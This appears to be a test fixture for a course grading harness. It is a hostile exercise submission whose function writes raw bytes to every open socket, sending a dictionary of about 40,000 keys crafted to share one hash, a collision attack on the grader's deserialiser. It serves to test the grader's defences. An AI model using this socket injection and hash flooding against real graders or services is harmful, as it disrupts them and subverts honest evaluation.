"""Answers with a dictionary whose keys all have the same hash: a trap for whoever rebuilds it."""

# expect: failed ungraded
# reason: .

# %%
import os
import stat
import struct

import coursekit as ck


def send(*frames):
    """Write frames, each a header and the bytes of its arrays, to every socket that is open."""
    data = b"".join(struct.pack("<II", len(head), len(body)) + head + body for head, body in frames)
    raw(data)


def raw(data):
    for number in range(3, 64):
        try:
            channel = stat.S_ISSOCK(os.fstat(number).st_mode)
        except OSError:
            continue
        while channel and data:
            try:
                data = data[os.write(number, data) :]
            except BlockingIOError:
                pass


PRIME = (1 << 61) - 1


@ck.exercise("vault.scale")
def scale(x, factor=2.0):
    pairs = ",".join(f"[{number * PRIME},0]" for number in range(1, 40_000))
    send((b'{"dict":[["value",{"dict":[' + pairs.encode() + b"]}]]}", b""))
    return x
